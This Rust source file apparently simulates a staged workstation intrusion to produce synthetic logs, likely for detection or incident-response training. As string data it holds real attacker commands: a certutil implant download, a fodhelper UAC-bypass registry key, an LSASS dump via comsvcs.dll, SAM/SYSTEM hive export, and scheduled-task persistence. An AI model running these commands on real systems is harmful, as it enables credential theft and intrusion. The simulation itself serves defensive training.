//! The attack on the workstation, step by step: document, scripts, implant, credentials.

use crate::boot::{SVCHOST, Uptime};
use crate::cast::{GATEWAY, PEOPLE, VICTIM};
use crate::change;
use crate::lateral;
use crate::ledger::{Actor, Failure, Ledger, LogonKind, Parent, Reason, Session};
use crate::payload;
use crate::prng::Prng;
use crate::sessions::elevated_half;
use crate::story::{indicator as ioc, when};
use crate::time::{MINUTE, SECOND};

pub const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";

/// Places in the ledger of the processes that alerts and the story point at.
#[derive(Clone, Debug, Default)]
pub struct Trail {
    pub explorer: usize,
    pub document: usize,
    pub first_powershell: usize,
    pub second_powershell: usize,
    pub download: usize,
    pub bypass: usize,
    pub implant: usize,
    pub dump: usize,
    pub service_shell: usize,
    pub staging: usize,
    pub archive: usize,
    pub user_added: usize,
    pub log_cleared: usize,
    pub lateral_logon_id: u64,
    pub elevated_logon_id: u64,
}

pub fn run(ledger: &mut Ledger, servers: &[Uptime]) -> Option<Trail> {
    let mut prng = Prng::named("intrusion");
    gateway_spray(ledger, &mut prng);
    let session = ledger.session(VICTIM, when::LURE_OPENED)?;
    let desk = Actor::new(session.host, &session.token, Parent::Logged(session.explorer));
    let mut trail = document(ledger, &session, &desk);
    let shell = desk.below(trail.second_powershell);
    discovery(ledger, &shell);
    persistence(ledger, &session, &shell);
    elevation(ledger, &session, &shell, &mut trail);
    let implant = Actor { token: ledger.processes[trail.implant].token.clone(), ..shell.below(trail.implant) };
    lateral::run(ledger, servers, &implant, &mut trail)?;
    Some(trail)
}

/// The same spray that the cloud directory sees also falls on the published remote desktop gateway.
fn gateway_spray(ledger: &mut Ledger, prng: &mut Prng) {
    let mut time = when::SPRAY_START.plus(4 * MINUTE);
    let guesses = ["administrator", "backup", "scanner", "helpdesk", "test"];
    while time < when::SPRAY_END {
        let ip = *prng.pick(&ioc::SPRAY_IPS);
        let known = prng.percent(72);
        let person = prng.pick(&PEOPLE);
        let who = if known { person.principal() } else { crate::server_room::unknown(prng.pick::<&str>(&guesses)) };
        ledger.failures.push(Failure {
            time,
            host: &GATEWAY,
            who,
            kind: LogonKind::NetworkNtlm,
            ip: ip.to_owned(),
            workstation: "WORKSTATION".to_owned(),
            reason: if known { Reason::BadPassword } else { Reason::UnknownUser },
        });
        time = time.plus(prng.between(25 * SECOND, 66 * SECOND));
    }
}

fn document(ledger: &mut Ledger, session: &Session, desk: &Actor) -> Trail {
    let word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
    let lure = format!("\"{word}\" /n \"C:\\Users\\{VICTIM}\\OneDrive\\Finance\\{}\"", ioc::LURE);
    let document = desk.run(ledger, when::LURE_OPENED.plus(284), word, lure);
    let under = desk.below(document);
    let first = under.console(ledger, when::FIRST_POWERSHELL.plus(611), POWERSHELL, payload::document_command());
    let under = desk.below(first);
    let second = under.console(ledger, when::SECOND_POWERSHELL.plus(95), POWERSHELL, payload::stage_command());
    let fetch = format!("certutil.exe -urlcache -split -f {} {}", ioc::LOADER_URL, ioc::IMPLANT);
    let certutil = "C:\\Windows\\System32\\certutil.exe";
    let download = desk.below(second).console(ledger, when::SECOND_STAGE.plus(402), certutil, fetch);
    Trail {
        explorer: session.explorer,
        document,
        first_powershell: first,
        second_powershell: second,
        download,
        ..Trail::default()
    }
}

/// What the attacker asks first, and how many seconds after the second stage.
const QUESTIONS: [(&str, &str, i64); 12] = [
    ("whoami.exe", "whoami.exe /all", 22),
    ("HOSTNAME.EXE", "hostname", 29),
    ("ipconfig.exe", "ipconfig /all", 41),
    ("systeminfo.exe", "systeminfo", 63),
    ("net.exe", "net user fin-clerk-3 /domain", 88),
    ("net.exe", "net group \"Domain Admins\" /domain", 104),
    ("net.exe", "net view \\\\NDX-FS-01 /all", 131),
    ("nltest.exe", "nltest /dclist:nord", 150),
    ("ARP.EXE", "arp -a", 171),
    ("tasklist.exe", "tasklist /svc", 188),
    ("cmd.exe", "cmd.exe /c dir \\\\NDX-FS-01\\Finance\\FY25 /s /b > C:\\ProgramData\\NdxSync\\l.txt", 236),
    ("powercfg.exe", "powercfg /change standby-timeout-ac 0", 262),
];

fn discovery(ledger: &mut Ledger, shell: &Actor) {
    for (program, command, seconds) in QUESTIONS {
        let time = when::SECOND_STAGE.plus(seconds * SECOND + seconds * 7);
        let place = shell.run(ledger, time, &format!("C:\\Windows\\System32\\{program}"), command);
        if program == "net.exe" {
            let inner = command.replace("net ", "C:\\Windows\\system32\\net1 ");
            shell.below(place).run(ledger, time.plus(31), "C:\\Windows\\System32\\net1.exe", inner);
        }
    }
}

/// A task every half hour, as long as the workstation is up.
fn persistence(ledger: &mut Ledger, session: &Session, shell: &Actor) {
    let quiet = format!("{} --quiet", ioc::IMPLANT);
    let create = format!("schtasks /create /f /tn \"{}\" /tr \"{quiet}\" /sc minute /mo 30", ioc::TASK);
    shell.console(ledger, when::TASK_CREATED.plus(-310), "C:\\Windows\\System32\\schtasks.exe", create);
    let (time, host) = (when::TASK_CREATED, shell.host);
    change::task_created(ledger, time, host, &shell.token, ioc::TASK, ioc::IMPLANT, "--quiet");
    let schedule = ledger.processes.iter().position(|process| {
        process.host == host
            && process.time > session.from.plus(-20 * MINUTE)
            && process.command.ends_with("-s Schedule")
    });
    let parent = schedule.map_or(Parent::Resident(SVCHOST), Parent::Logged);
    let scheduler = Actor::new(host, &shell.token, parent);
    let mut time = when::TASK_CREATED.plus(30 * MINUTE);
    while time < when::HOST_ISOLATED {
        scheduler.run(ledger, time.plus(137), ioc::IMPLANT, quiet.as_str());
        time = time.plus(30 * MINUTE);
    }
}

/// The clerk is administrator of the own workstation, which lets the attacker take the other half of the token.
fn elevation(ledger: &mut Ledger, session: &Session, shell: &Actor, trail: &mut Trail) {
    let elevated = elevated_half(ledger, session);
    trail.elevated_logon_id = elevated.logon_id;
    let reg = "C:\\Windows\\System32\\reg.exe";
    let high = format!("{} --hi", ioc::IMPLANT);
    let key = format!("reg add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command /d \"{high}\" /f");
    shell.run(ledger, when::BYPASS.plus(-14 * SECOND), reg, key);
    let strong = Actor { token: elevated, ..shell.clone() };
    let helper = "C:\\Windows\\System32\\fodhelper.exe";
    trail.bypass = strong.run(ledger, when::BYPASS.plus(77), helper, format!("\"{helper}\""));
    trail.implant = strong.below(trail.bypass).run(ledger, when::BYPASS.plus(1_240), ioc::IMPLANT, high);
    let implant = strong.below(trail.implant);
    let dump = format!("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 {} full", ioc::DUMP);
    let rundll = "C:\\Windows\\System32\\rundll32.exe";
    trail.dump = implant.run(ledger, when::LSASS_DUMP.plus(518), rundll, dump);
    for (hive, wait) in [("SAM", 42 * SECOND), ("SYSTEM", 63 * SECOND)] {
        let file = hive.to_lowercase();
        let save = format!("reg save HKLM\\{hive} C:\\ProgramData\\NdxSync\\{file}.hiv /y");
        implant.run(ledger, when::LSASS_DUMP.plus(wait), reg, save);
    }
}
